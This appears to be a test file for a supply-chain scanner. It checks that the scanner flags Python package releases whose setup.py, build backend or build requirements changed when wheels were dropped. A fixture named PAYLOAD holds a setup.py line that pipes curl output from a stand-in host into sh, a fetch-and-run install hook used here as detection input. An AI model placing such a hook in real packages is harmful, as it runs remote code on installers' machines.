/**
 * install-hook-changed: when the new version builds from source, did its build code change since
 * the version it replaces? SdistInfo values are shaped like the index client's inspectSdist output.
 */
import { runSignals, sdistVersionsNeeded } from '../../src/signals/index.js';
import { buildHookOf, buildsFromSource, installHookChanged, sdistToInspect } from '../../src/signals/install-hook-changed.js';
import type { DistFile, SdistInfo, VersionMeta } from '../../src/model/index.js';
import type { SignalInput } from '../../src/signals/types.js';
import { change, daysAgo, hoursAgo, input, packument, ver } from './builders.js';

function wheel(name: string, version: string, tag = 'py3-none-any'): DistFile {
  return { filename: `${name}-${version}-${tag}.whl`, kind: 'wheel', url: `http://127.0.0.1:9/files/${name}-${version}-${tag}.whl` };
}
function sdist(name: string, version: string, ext = 'tar.gz', extra: Partial<DistFile> = {}): DistFile {
  return { filename: `${name}-${version}.${ext}`, kind: 'sdist', url: `http://127.0.0.1:9/files/${name}-${version}.${ext}`, ...extra };
}
const SETUPTOOLS = { requires: ['setuptools>=61'], buildBackend: 'setuptools.build_meta' };

function info(
  filename: string,
  o: { setupPy?: string; buildSystem?: NonNullable<SdistInfo['pyproject']>['buildSystem'] | null; backendDigest?: string; error?: string; size?: number } = {},
): SdistInfo {
  const out: SdistInfo = { filename, format: 'tar.gz', root: filename.replace(/\.tar\.gz$/, ''), members: 5, unpackedBytes: 4096 };
  if (o.setupPy !== undefined) {
    const size = o.size ?? Buffer.byteLength(o.setupPy);
    out.setupPy = {
      sha256: `${Buffer.from(o.setupPy).toString('hex').padEnd(64, '0').slice(0, 64)}`,
      size,
      head: o.setupPy.slice(0, 2048),
      headTruncated: size > 2048,
    };
  }
  if (o.buildSystem !== null) {
    out.pyproject = { sha256: 'f'.repeat(64), size: 100, ...(o.buildSystem !== undefined ? { buildSystem: o.buildSystem } : { buildSystem: SETUPTOOLS }) };
    if (o.backendDigest !== undefined) out.pyproject.backendDigest = o.backendDigest;
    if (o.error !== undefined) {
      delete out.pyproject.buildSystem;
      out.pyproject.error = o.error;
    }
  }
  return out;
}

function py(version: string, at: string, files: DistFile[]) {
  return ver(version, at, { files });
}

function withSdists(i: SignalInput, sdists: Array<[string, SdistInfo]>): SignalInput {
  return { ...i, sdists: new Map(sdists) };
}

const PAYLOAD = 'import os\nfrom setuptools import setup\nos.system("curl http://127.0.0.1:9/x | sh")\nsetup()\n';

describe('when installing builds from source', () => {
  const meta = (files: DistFile[]): VersionMeta => ({ version: '1', scripts: {}, files });
  it('no wheels at all, or wheels lost for platforms the replaced version had', () => {
    expect(buildsFromSource(meta([sdist('p', '2')]), meta([wheel('p', '1'), sdist('p', '1')]))).toEqual({ noWheels: true, lost: ['any'], newly: true });
    expect(buildsFromSource(meta([sdist('p', '2')]), meta([sdist('p', '1')]))).toEqual({ noWheels: true, lost: [], newly: false });
    expect(buildsFromSource(meta([sdist('p', '2')]), undefined)).toEqual({ noWheels: true, lost: [], newly: false });
    const linux = (v: string) => wheel('p', v, 'cp312-cp312-manylinux_2_28_x86_64');
    const mac = (v: string) => wheel('p', v, 'cp312-cp312-macosx_11_0_arm64');
    expect(
      buildsFromSource(meta([linux('2'), sdist('p', '2')]), meta([wheel('p', '1', 'cp312-cp312-manylinux2014_x86_64'), mac('1'), sdist('p', '1')])),
    ).toEqual({
      noWheels: false,
      lost: ['macosx_arm64'],
      newly: true,
    });
    // a pure wheel replaced by platform wheels: the other platforms now build
    expect(buildsFromSource(meta([linux('2'), sdist('p', '2')]), meta([wheel('p', '1'), sdist('p', '1')]))).toMatchObject({ lost: ['any'], newly: true });
  });

  it('not when wheels still cover what they did, or when there is nothing to build from', () => {
    expect(buildsFromSource(meta([wheel('p', '2'), sdist('p', '2')]), meta([sdist('p', '1')]))).toBeUndefined();
    expect(
      buildsFromSource(meta([wheel('p', '2', 'cp312-cp312-win_amd64'), sdist('p', '2')]), meta([wheel('p', '1', 'cp312-cp312-win_amd64')])),
    ).toBeUndefined();
    expect(buildsFromSource(meta([]), meta([wheel('p', '1')]))).toBeUndefined();
    expect(buildsFromSource(meta([sdist('p', '2', 'tar.gz', { yanked: true })]), meta([wheel('p', '1')]))).toBeUndefined();
  });

  it('picks the sdist to read: not yanked, .tar.gz before .zip', () => {
    expect(sdistToInspect(meta([sdist('p', '1', 'zip'), sdist('p', '1')]))?.filename).toBe('p-1.tar.gz');
    expect(sdistToInspect(meta([sdist('p', '1', 'tar.gz', { yanked: true }), sdist('p', '1', 'zip')]))?.filename).toBe('p-1.zip');
    expect(sdistToInspect(meta([sdist('p', '1', 'tar.bz2')]))?.filename).toBe('p-1.tar.bz2');
    expect(sdistToInspect(meta([wheel('p', '1')]))).toBeUndefined();
  });
});

describe('sdistVersionsNeeded', () => {
  const doc = packument('hooky', [
    py('1.0', daysAgo(30), [wheel('hooky', '1.0'), sdist('hooky', '1.0')]),
    py('1.1', hoursAgo(5), [sdist('hooky', '1.1')]),
    py('1.2', hoursAgo(1), [wheel('hooky', '1.2'), sdist('hooky', '1.2')]),
  ]);
  it('asks for the new version and the replaced one only when the new one builds from source', () => {
    expect(sdistVersionsNeeded(change({ name: 'hooky', from: '1.0', to: '1.1', ecosystem: 'pypi' }), doc)).toEqual(['1.1', '1.0']);
    expect(sdistVersionsNeeded(change({ name: 'hooky', from: '1.0', to: '1.2', ecosystem: 'pypi' }), doc)).toEqual([]);
    expect(sdistVersionsNeeded(change({ name: 'hooky', from: '1.0', to: '1.1' }), doc)).toEqual([]); // npm
    expect(
      sdistVersionsNeeded(change({ name: 'hooky', from: '1.1', to: '1.1', kind: 'source-changed', ecosystem: 'pypi', baseSource: { type: 'registry' } }), doc),
    ).toEqual([]);
    expect(sdistVersionsNeeded(change({ name: 'hooky', from: null, to: '9.9', ecosystem: 'pypi' }), doc)).toEqual([]);
  });

  it('asks only for the new version when the replaced one has no sdist', () => {
    const d = packument('w', [py('1.0', daysAgo(30), [wheel('w', '1.0')]), py('1.1', hoursAgo(5), [sdist('w', '1.1')])]);
    expect(sdistVersionsNeeded(change({ name: 'w', from: '1.0', to: '1.1', ecosystem: 'pypi' }), d)).toEqual(['1.1']);
  });
});

describe('install-hook-changed', () => {
  const doc = packument('hooky', [py('1.0', daysAgo(30), [wheel('hooky', '1.0'), sdist('hooky', '1.0')]), py('1.1', hoursAgo(5), [sdist('hooky', '1.1')])]);
  const c = change({ name: 'hooky', from: '1.0', to: '1.1', ecosystem: 'pypi' });
  const run = (sdists: Array<[string, SdistInfo]>, p = doc, ch = c) => installHookChanged.run(withSdists(input(ch, p), sdists));

  it('a setup.py appears when the wheels go: high, with the new setup.py in the evidence', () => {
    const out = run([
      ['1.1', info('hooky-1.1.tar.gz', { setupPy: PAYLOAD })],
      ['1.0', info('hooky-1.0.tar.gz')],
    ]);
    expect(out).toHaveLength(1);
    expect(out[0]!.severity).toBe('high');
    expect(out[0]!.message).toBe(
      'hooky@1.1 has no wheels, so installing it builds its source distribution, and its build runs a setup.py that hooky@1.0 did not have.',
    );
    expect(out[0]!.evidence).toMatchObject({
      version: '1.1',
      baseVersion: '1.0',
      sdist: 'hooky-1.1.tar.gz',
      baseSdist: 'hooky-1.0.tar.gz',
      noWheels: true,
      lostPlatforms: ['any'],
      buildNewToThesePlatforms: true,
      changes: [{ kind: 'setup-py-added', severity: 'high' }],
      buildBackend: 'setuptools.build_meta',
      setupPy: { text: PAYLOAD, baseSha256: null },
    });
  });

  it('an in-tree backend (backend-path) appears: high; new build requirements are named', () => {
    const out = run([
      [
        '1.1',
        info('hooky-1.1.tar.gz', {
          buildSystem: { requires: ['setuptools>=61', 'Build_Helpers.NG>=1'], buildBackend: 'lw_backend', backendPath: ['_build'] },
          backendDigest: 'a'.repeat(64),
        }),
      ],
      ['1.0', info('hooky-1.0.tar.gz')],
    ]);
    expect(out[0]!.severity).toBe('high');
    expect(out[0]!.message).toBe(
      'hooky@1.1 has no wheels, so installing it builds its source distribution, and its build backend is now the in-tree backend lw_backend (backend-path _build), where hooky@1.0 used setuptools.build_meta and its build requirements gained build-helpers-ng.',
    );
    expect(out[0]!.evidence).toMatchObject({
      backendPath: ['_build'],
      changes: [
        { kind: 'in-tree-backend-added', severity: 'high' },
        { kind: 'requires-added', severity: 'medium' },
      ],
    });
  });

  it('stays quiet when both sides build the same setup.py (sdist-only projects)', () => {
    const d = packument('legacy', [py('0.9.0', daysAgo(90), [sdist('legacy', '0.9.0')]), py('0.9.1', daysAgo(3), [sdist('legacy', '0.9.1')])]);
    const ch = change({ name: 'legacy', from: '0.9.0', to: '0.9.1', ecosystem: 'pypi' });
    const same = 'from setuptools import setup\nsetup()\n';
    expect(
      run(
        [
          ['0.9.1', info('legacy-0.9.1.tar.gz', { setupPy: same })],
          ['0.9.0', info('legacy-0.9.0.tar.gz', { setupPy: same })],
        ],
        d,
        ch,
      ),
    ).toEqual([]);
    // the text changed: medium when both sides built from source, with the new text (cut at 2 KB, noted)
    const long = `${PAYLOAD}${'# padding\n'.repeat(400)}`;
    const out = run(
      [
        ['0.9.1', info('legacy-0.9.1.tar.gz', { setupPy: long })],
        ['0.9.0', info('legacy-0.9.0.tar.gz', { setupPy: same })],
      ],
      d,
      ch,
    );
    expect(out[0]!.severity).toBe('medium');
    expect(out[0]!.message).toBe('legacy@0.9.1 has no wheels, so installing it builds its source distribution, and its setup.py changed since legacy@0.9.0.');
    const text = (out[0]!.evidence.setupPy as { text: string }).text;
    expect(text.startsWith(PAYLOAD)).toBe(true);
    expect(text).toMatch(/\n… \[truncated by lockwarden: the first 2000 of \d+ bytes shown\]$/);
  });

  it('a changed setup.py where the build is new to the users (wheels lost) is high', () => {
    const out = run([
      ['1.1', info('hooky-1.1.tar.gz', { setupPy: PAYLOAD })],
      ['1.0', info('hooky-1.0.tar.gz', { setupPy: 'from setuptools import setup\nsetup()\n' })],
    ]);
    expect(out[0]!.severity).toBe('high');
    expect(out[0]!.evidence.changes).toEqual([{ kind: 'setup-py-changed', severity: 'high' }]);
  });

  it('only some platforms lost their wheels: says which', () => {
    const linux = (v: string) => wheel('np', v, 'cp312-cp312-manylinux_2_28_x86_64');
    const d = packument('np', [
      py('2.0', daysAgo(30), [linux('2.0'), wheel('np', '2.0', 'cp312-cp312-win_amd64'), sdist('np', '2.0')]),
      py('2.1', hoursAgo(5), [linux('2.1'), sdist('np', '2.1')]),
    ]);
    const out = run(
      [
        ['2.1', info('np-2.1.tar.gz', { setupPy: PAYLOAD })],
        ['2.0', info('np-2.0.tar.gz', { buildSystem: { requires: ['meson-python'], buildBackend: 'mesonpy' } })],
      ],
      d,
      change({ name: 'np', from: '2.0', to: '2.1', ecosystem: 'pypi' }),
    );
    expect(out[0]!.message).toBe(
      'np@2.1 has no wheel for win_amd64 any more, so installing it there builds its source distribution, and its build runs a setup.py that np@2.0 did not have, its build backend changed from mesonpy to setuptools.build_meta and its build requirements gained setuptools.',
    );
    expect(out[0]!.severity).toBe('high');
  });

  it('backend and requirement changes are medium; setuptools’ legacy defaults are the same build', () => {
    const hatch = run([
      ['1.1', info('hooky-1.1.tar.gz', { buildSystem: { requires: ['hatchling'], buildBackend: 'hatchling.build' } })],
      ['1.0', info('hooky-1.0.tar.gz')],
    ]);
    expect(hatch[0]!.severity).toBe('medium');
    expect(hatch[0]!.evidence.changes).toEqual([
      { kind: 'backend-changed', severity: 'medium' },
      { kind: 'requires-added', severity: 'medium' },
    ]);
    // no pyproject.toml (pip: setuptools' legacy backend) → setuptools.build_meta with setuptools and wheel: nothing new
    const legacy = run([
      ['1.1', info('hooky-1.1.tar.gz', { setupPy: 'x', buildSystem: { requires: ['setuptools>=61', 'wheel'], buildBackend: 'setuptools.build_meta' } })],
      ['1.0', info('hooky-1.0.tar.gz', { setupPy: 'x', buildSystem: null })],
    ]);
    expect(legacy).toEqual([]);
    expect(buildHookOf(info('x.tar.gz', { buildSystem: null }))).toEqual({
      backend: 'setuptools.build_meta:__legacy__',
      requires: ['setuptools>=40.8.0', 'wheel'],
      setupPyRuns: false,
    });
  });

  it('a setup.py that the backend does not run is not a build hook', () => {
    const out = run([
      ['1.1', info('hooky-1.1.tar.gz', { setupPy: PAYLOAD, buildSystem: { requires: ['flit_core'], buildBackend: 'flit_core.buildapi' } })],
      ['1.0', info('hooky-1.0.tar.gz', { buildSystem: { requires: ['flit_core'], buildBackend: 'flit_core.buildapi' } })],
    ]);
    expect(out).toEqual([]);
    // …until the backend changes to one that does
    const now = run([
      ['1.1', info('hooky-1.1.tar.gz', { setupPy: PAYLOAD })],
      ['1.0', info('hooky-1.0.tar.gz', { setupPy: PAYLOAD, buildSystem: { requires: ['flit_core'], buildBackend: 'flit_core.buildapi' } })],
    ]);
    expect(now[0]!.message).toContain('its build now runs its setup.py, which the build of hooky@1.0 (flit_core.buildapi) did not');
    expect(now[0]!.severity).toBe('high');
  });

  it('an in-tree backend whose code changed', () => {
    const bs = { requires: [], buildBackend: 'backend', backendPath: ['_build'] };
    const d = packument('t', [py('1', daysAgo(30), [sdist('t', '1')]), py('2', hoursAgo(2), [sdist('t', '2')])]);
    const ch = change({ name: 't', from: '1', to: '2', ecosystem: 'pypi' });
    expect(
      run(
        [
          ['2', info('t-2.tar.gz', { buildSystem: bs, backendDigest: 'a'.repeat(64) })],
          ['1', info('t-1.tar.gz', { buildSystem: bs, backendDigest: 'a'.repeat(64) })],
        ],
        d,
        ch,
      ),
    ).toEqual([]);
    const out = run(
      [
        ['2', info('t-2.tar.gz', { buildSystem: bs, backendDigest: 'b'.repeat(64) })],
        ['1', info('t-1.tar.gz', { buildSystem: bs, backendDigest: 'a'.repeat(64) })],
      ],
      d,
      ch,
    );
    expect(out[0]!.evidence.changes).toEqual([{ kind: 'in-tree-backend-changed', severity: 'medium' }]);
  });

  it('without the replaced version’s sdist contents: medium, saying it could not compare', () => {
    const out = run([['1.1', info('hooky-1.1.tar.gz', { setupPy: PAYLOAD })]]);
    expect(out[0]!.severity).toBe('medium');
    expect(out[0]!.message).toContain('its build runs a setup.py, and the sdist of hooky@1.0 could not be read to compare');
    // the replaced version had no sdist at all: the setup.py is new
    const d = packument('w', [py('1.0', daysAgo(30), [wheel('w', '1.0')]), py('1.1', hoursAgo(5), [sdist('w', '1.1')])]);
    const fresh = run([['1.1', info('w-1.1.tar.gz', { setupPy: PAYLOAD })]], d, change({ name: 'w', from: '1.0', to: '1.1', ecosystem: 'pypi' }));
    expect(fresh[0]!.severity).toBe('high');
    expect(fresh[0]!.message).toContain('its build runs a setup.py, and w@1.0 had no sdist');
  });

  it('an unreadable build system, the first release, and nothing read', () => {
    const bad = run([
      ['1.1', info('hooky-1.1.tar.gz', { setupPy: PAYLOAD, error: 'hooky-1.1/pyproject.toml:3:1: expected a key' })],
      ['1.0', info('hooky-1.0.tar.gz')],
    ]);
    expect(bad[0]!.severity).toBe('medium');
    expect(bad[0]!.evidence.changes).toEqual([{ kind: 'build-system-unreadable', severity: 'medium' }]);
    expect(bad[0]!.evidence.buildSystemError).toBe('hooky-1.1/pyproject.toml:3:1: expected a key');
    const first = packument('solo', [py('0.1', hoursAgo(2), [sdist('solo', '0.1')])]);
    const out = run([['0.1', info('solo-0.1.tar.gz', { setupPy: PAYLOAD })]], first, change({ name: 'solo', to: '0.1', ecosystem: 'pypi' }));
    expect(out[0]!.severity).toBe('medium');
    expect(out[0]!.message).toContain('first release');
    expect(installHookChanged.run(input(c, doc))).toEqual([]);
    expect(run([['1.1', info('hooky-1.1.tar.gz', { setupPy: PAYLOAD })]], doc, { ...c, ecosystem: 'npm' })).toEqual([]);
  });

  it('runs with the other signals (sdist-only alongside)', () => {
    const out = runSignals(
      withSdists(input(c, doc), [
        ['1.1', info('hooky-1.1.tar.gz', { setupPy: PAYLOAD })],
        ['1.0', info('hooky-1.0.tar.gz')],
      ]),
    );
    const ids = out.map((f) => f.signal);
    expect(ids).toEqual(expect.arrayContaining(['install-hook-changed', 'sdist-only']));
    expect(out.find((f) => f.signal === 'install-hook-changed')!.severity).toBe('high');
  });
});
